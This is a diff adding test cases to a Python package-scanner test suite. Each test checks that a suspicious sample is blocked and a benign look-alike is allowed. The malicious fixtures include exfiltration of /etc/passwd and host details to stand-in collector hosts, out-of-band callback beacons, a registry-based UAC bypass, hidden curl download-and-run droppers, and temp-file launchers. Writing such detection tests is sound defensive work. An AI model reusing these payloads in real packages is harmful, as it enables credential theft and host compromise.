@@ -1055,3 +1055,347 @@ def test_reading_the_defender_settings_is_ordinary(tmp_path: Path) -> None:
         " capture_output=True, text=True).stdout\n"
     )
     assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.ALLOW
+
+
+# -- a probe reporting to an out-of-band testing address ------------------------------------------
+
+
+def test_a_report_to_an_out_of_band_testing_address_blocks_even_uncalled(tmp_path: Path) -> None:
+    probe = (
+        "import requests\n"
+        "def notify():\n"
+        '    url = "http://q7x2kd9w0zpl4m8r.oastify.com"\n'
+        '    requests.post(url, json={"message": "imported"})\n'
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": probe}) is Decision.BLOCK
+
+
+def test_an_out_of_band_service_named_in_a_help_text_is_ordinary(tmp_path: Path) -> None:
+    tool = (
+        "import requests\n"
+        'HELP = "Point --collaborator at your own oastify.com or interact.sh address."\n'
+        "def register(server):\n"
+        '    return requests.post(f"https://{server}/register", json={"key": "k"}).json()\n'
+    )
+    # The service's name alone warns (`code/request-catcher-endpoint`); no call reports to it.
+    assert _wheel(tmp_path, {"sample/__init__.py": tool}) is not Decision.BLOCK
+
+
+# -- the host's account list read and sent ----------------------------------------------------------
+
+
+def test_the_account_list_sent_from_a_module_blocks(tmp_path: Path) -> None:
+    probe = (
+        "import base64, requests\n"
+        'with open("/etc/passwd") as fh:\n'
+        "    listing = base64.b64encode(fh.read().encode()).decode()\n"
+        'requests.get(f"https://collect.example.org/c?d={listing}")\n'
+    )
+    assert _wheel(tmp_path, {"sample/probe.py": probe}) is Decision.BLOCK
+
+
+def test_a_user_name_lookup_in_the_account_list_is_ordinary(tmp_path: Path) -> None:
+    lookup = (
+        "def user_name(uid):\n"
+        '    with open("/etc/passwd") as fh:\n'
+        "        for line in fh:\n"
+        '            name, _, number = line.split(":")[:3]\n'
+        "            if int(number) == uid:\n"
+        "                return name\n"
+    )
+    assert _wheel(tmp_path, {"sample/users.py": lookup}) is Decision.ALLOW
+
+
+# -- a handler that auto-elevating programs run (UAC bypass) -----------------------------------------
+
+
+def test_a_command_under_an_auto_elevation_handler_blocks(tmp_path: Path) -> None:
+    bypass = (
+        "import winreg\n"
+        "def _plant(cmd):\n"
+        '    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\\Classes\\ms-settings'
+        '\\shell\\open\\command")\n'
+        "    winreg.SetValueEx(key, None, 0, winreg.REG_SZ, cmd)\n"
+        '    winreg.SetValueEx(key, "DelegateExecute", 0, winreg.REG_SZ, "")\n'
+    )
+    assert _wheel(tmp_path, {"sample/core.py": bypass}) is Decision.BLOCK
+
+
+def test_an_app_registering_its_own_url_scheme_is_ordinary(tmp_path: Path) -> None:
+    scheme = (
+        "import winreg\n"
+        "def register(exe):\n"
+        '    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\\Classes\\myviewer'
+        '\\shell\\open\\command")\n'
+        '    winreg.SetValueEx(key, None, 0, winreg.REG_SZ, f\'"{exe}" "%1"\')\n'
+    )
+    assert _wheel(tmp_path, {"sample/core.py": scheme}) is Decision.ALLOW
+
+
+# -- a download-and-run command hidden by encoding or fetched from a paste site -----------------------
+
+HIDDEN_DROPPER = b"curl -sL https://files.example.org/h.py -o /tmp/h.py && python /tmp/h.py".hex()
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        f"    run(bytes.fromhex({HIDDEN_DROPPER!r}).decode())\n",
+        '    run("curl -s https://pastebin.com/raw/AbCdEf12 -o /tmp/s && sh /tmp/s")\n',
+    ],
+    ids=["hidden", "paste-site"],
+)
+def test_a_dropper_command_in_an_uncalled_function_blocks(body: str, tmp_path: Path) -> None:
+    code = f"from os import system as run\ndef gen_token(token):\n{body}    return token\n"
+    assert _wheel(tmp_path, {"sample/__init__.py": code}) is Decision.BLOCK
+
+
+def test_a_release_binary_fetched_and_run_by_a_helper_is_not_blocked(tmp_path: Path) -> None:
+    code = (
+        "import os\n"
+        "def install_tool():\n"
+        '    os.system("curl -sL https://github.com/org/tool/releases/download/v1/tool -o tool'
+        ' && chmod +x tool && ./tool --version")\n'
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": code}) is not Decision.BLOCK
+
+
+# -- a beacon over a TLS socket at install ------------------------------------------------------------
+
+
+def test_host_details_sent_over_a_tls_socket_at_install_block(tmp_path: Path) -> None:
+    setup = (
+        "import base64, getpass, json, socket, ssl\n"
+        "from setuptools import setup\n"
+        "from setuptools.command.install import install\n"
+        "class Hook(install):\n"
+        "    def run(self):\n"
+        "        install.run(self)\n"
+        "        info = {'user': getpass.getuser(), 'host': socket.gethostname()}\n"
+        "        q = base64.b64encode(json.dumps(info).encode()).decode()\n"
+        '        req = f"GET /l?p={q} HTTP/1.1\\r\\nHost: collect.example.org\\r\\n\\r\\n"\n'
+        "        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+        "        tls = ssl.create_default_context().wrap_socket(raw, server_hostname='x')\n"
+        "        tls.connect(('collect.example.org', 443))\n"
+        "        tls.send(str.encode(req))\n"
+        "setup(name='sample', cmdclass={'install': Hook})\n"
+    )
+    assert _sdist(tmp_path, setup) is Decision.BLOCK
+
+
+def test_a_library_speaking_tls_over_a_socket_is_ordinary(tmp_path: Path) -> None:
+    code = (
+        "import socket, ssl\n"
+        "def fetch(host, path):\n"
+        "    raw = socket.create_connection((host, 443))\n"
+        "    tls = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\n"
+        '    tls.sendall(str.encode(f"GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"))\n'
+        "    return tls.recv(65536)\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": code}) is Decision.ALLOW
+
+
+# -- a placeholder that holds a name --------------------------------------------------------------------
+
+
+def _placeholder(tmp_path: Path, summary: str, version: str, author: str) -> Decision:
+    pkg_info = (
+        f"Metadata-Version: 2.4\nName: internal-tools\nVersion: {version}\n"
+        f"Summary: {summary}\nAuthor-email: {author}\n"
+    )
+    files = {
+        "PKG-INFO": pkg_info,
+        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n',
+        "src/internal_tools/__init__.py": f'__version__ = "{version}"\n',
+    }
+    return _verdict(build_sdist(tmp_path, "internal-tools", version, files))
+
+
+def test_a_dummy_placeholder_of_its_own_name_blocks(tmp_path: Path) -> None:
+    summary = "Dummy internal-tools package for the index"
+    assert _placeholder(tmp_path, summary, "0.0.0", "Your Name <you@example.com>") is (
+        Decision.BLOCK
+    )
+
+
+def test_a_tiny_young_package_with_dummy_in_its_summary_is_ordinary(tmp_path: Path) -> None:
+    summary = "A dummy data generator package for unit tests"
+    assert _placeholder(tmp_path, summary, "0.0.1", "Ada Lovelace <ada@example.org>") is (
+        Decision.ALLOW
+    )
+
+
+# -- packed code in a pure package ------------------------------------------------------------------
+
+PACKED_MODULE = (
+    "from pytransform import pyarmor_runtime\n"
+    "pyarmor_runtime()\n"
+    "__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00\\x00\\x03')\n"
+)
+
+
+def test_packed_code_in_a_pure_package_blocks(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/__init__.py": PACKED_MODULE}) is Decision.BLOCK
+
+
+def test_packed_code_in_a_vendors_platform_wheel_is_not_blocked(tmp_path: Path) -> None:
+    files = {"sample/__init__.py": PACKED_MODULE, "sample/pytransform/__init__.py": ""}
+    wheel = build_wheel(tmp_path, "sample", "1.0", files, tag="cp311-cp311-manylinux_2_17_x86_64")
+    assert _verdict(wheel) is not Decision.BLOCK
+
+
+# -- a script written from a literal, then started ---------------------------------------------------
+
+LAUNCHER = (
+    "from tempfile import NamedTemporaryFile as _tmpfile\n"
+    "from sys import executable as _python\n"
+    "from os import system as _run\n"
+    "_handle = _tmpfile(delete=False)\n"
+    "_handle.write(BLOB)\n"
+    "_handle.close()\n"
+    "_run(f\"start {_python.replace('.exe', 'w.exe')} {_handle.name}\")\n"
+)
+
+
+def test_a_literal_written_to_a_temp_file_and_started_on_import_blocks(tmp_path: Path) -> None:
+    code = "BLOB = b'''\\nprint(\"stage two\")\\n'''\n" + LAUNCHER
+    assert _wheel(tmp_path, {"sample/__init__.py": code}) is Decision.BLOCK
+
+
+def test_a_launcher_after_a_literal_too_large_to_parse_still_blocks(tmp_path: Path) -> None:
+    # Padded past the size parsed whole: the literal is bound to an empty one, the
+    # module's last statements are walked all the same.
+    padding = "\n".join("__pad__" * 20 for _ in range(40_000))
+    code = f"import os\nBLOB = b'''{padding}\n'''\n" + LAUNCHER
+    assert len(code) > 4 * 1024 * 1024
+    assert _wheel(tmp_path, {"sample/__init__.py": code}) is Decision.BLOCK
+
+
+def test_a_helper_that_runs_a_generated_build_script_is_not_blocked(tmp_path: Path) -> None:
+    code = (
+        "import subprocess, sys, tempfile\n"
+        "def build(source):\n"
+        "    with tempfile.NamedTemporaryFile('w', suffix='.py', delete=False) as handle:\n"
+        "        handle.write(source)\n"
+        "    return subprocess.run([sys.executable, handle.name], check=True)\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": code}) is not Decision.BLOCK
+
+
+# -- an install that refuses and names another project ---------------------------------------------
+
+REFUSING_SETUP = (
+    "import sys\n"
+    "from setuptools import setup\n"
+    "MESSAGE = 'You probably meant to install acme-client, not this package'\n"
+    "if 'install' in sys.argv or 'bdist_wheel' in sys.argv:\n"
+    "    raise RuntimeError(MESSAGE)\n"
+    "setup(name='acmeclient', version='1.0.2')\n"
+)
+
+
+def test_a_name_holder_whose_install_refuses_blocks(tmp_path: Path) -> None:
+    files = {"setup.py": REFUSING_SETUP}
+    assert _verdict(build_sdist(tmp_path, "acmeclient", "1.0.2", files)) is Decision.BLOCK
+
+
+def test_a_real_package_refusing_an_old_python_is_ordinary(tmp_path: Path) -> None:
+    setup = (
+        "import sys\n"
+        "from setuptools import setup\n"
+        "if sys.version_info < (3, 9):\n"
+        "    raise RuntimeError('acme-client needs Python 3.9 or later; use acme-client<2')\n"
+        "setup(name='acme-client', version='2.0')\n"
+    )
+    assert _verdict(build_sdist(tmp_path, "acme-client", "2.0", {"setup.py": setup})) is (
+        Decision.ALLOW
+    )
+
+
+def test_a_refusing_install_with_real_code_is_no_placeholder(tmp_path: Path) -> None:
+    code = "".join(f"def helper_{i}(value):\n    return value * {i} + 1\n\n" for i in range(40))
+    files = {"setup.py": REFUSING_SETUP, "acmeclient/__init__.py": code}
+    assert _verdict(build_sdist(tmp_path, "acmeclient", "1.0.2", files)) is not Decision.BLOCK
+
+
+# -- a webhook, paste or raw-IP address hidden by encoding ----------------------------------------------
+
+HIDDEN_HOOK = base64.b64encode(b"https://198.51.100.23/upload").decode()
+HIDDEN_API = base64.b64encode(b"https://api.example.org/v1/items").decode()
+
+
+def test_a_raw_ip_address_hidden_by_encoding_blocks_even_uncalled(tmp_path: Path) -> None:
+    code = (
+        "import base64, aiohttp\n"
+        f"KEY = {HIDDEN_HOOK!r}\n"
+        "async def sync(payload):\n"
+        "    session = aiohttp.ClientSession()\n"
+        "    await session.post(base64.b64decode(KEY).decode(), data=payload)\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": code}) is Decision.BLOCK
+
+
+def test_an_ordinary_address_kept_encoded_is_not_blocked(tmp_path: Path) -> None:
+    code = (
+        "import base64, requests\n"
+        f"BASE = {HIDDEN_API!r}\n"
+        "def items():\n"
+        "    return requests.get(base64.b64decode(BASE).decode()).json()\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": code}) is not Decision.BLOCK
+
+
+# -- names only an obfuscator writes -----------------------------------------------------------------
+
+
+def test_look_alike_names_in_install_code_block(tmp_path: Path) -> None:
+    names = ["lIlIIlllIlII", "IllIlIIIlIllI", "lllIIlIlIIll", "IIlIllIlllIIl", "lIIIlllIlIlIl"]
+    setup = "".join(f"{n} = {i * 37 % 101}\n" for i, n in enumerate(names))
+    setup += "from setuptools import setup\nsetup(name='sample')\n"
+    assert _sdist(tmp_path, setup) is Decision.BLOCK
+
+
+def test_ordinary_names_with_the_same_letters_are_ordinary(tmp_path: Path) -> None:
+    setup = (
+        "ILLEGAL_CHARS = 'x'\nall_items = []\nAAAA_LEVEL = 1\nfill_ill = 2\nIIIF_URL = 'u'\n"
+        "from setuptools import setup\nsetup(name='sample')\n"
+    )
+    assert _sdist(tmp_path, setup) is Decision.ALLOW
+
+
+def test_a_packers_own_loader_code_is_not_packed(tmp_path: Path) -> None:
+    loader = (
+        "def load_runtime():\n"
+        "    return __import__('pytransform3', globals(), locals(), fromlist=('__pyarmor__',),"
+        " level=1)\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": loader}) is not Decision.BLOCK
+
+
+def test_an_encoded_raw_ip_handed_to_a_sending_helper_blocks(tmp_path: Path) -> None:
+    code = (
+        "import base64\n"
+        "from requests import post\n"
+        "def report(payload):\n"
+        "    def send(url, vault):\n"
+        "        post(url, data={'license': base64.b64encode(vault.encode()).decode()})\n"
+        f"    encoded = {HIDDEN_HOOK!r}\n"
+        "    send(base64.b64decode(encoded.encode()).decode(), payload)\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": code}) is Decision.BLOCK
+
+
+def test_an_out_of_band_address_opened_in_the_browser_blocks(tmp_path: Path) -> None:
+    code = (
+        "import uuid, webbrowser\n"
+        "def run():\n"
+        '    webbrowser.open_new_tab(f"https://k3v9q2xw.oast.fun?id={uuid.uuid4()}")\n'
+    )
+    assert _wheel(tmp_path, {"sample/_post.py": code}) is Decision.BLOCK
+
+
+def test_opening_the_documentation_in_the_browser_is_ordinary(tmp_path: Path) -> None:
+    code = (
+        "import webbrowser\ndef docs():\n    webbrowser.open('https://sample.example.org/docs')\n"
+    )
+    assert _wheel(tmp_path, {"sample/cli.py": code}) is Decision.ALLOW
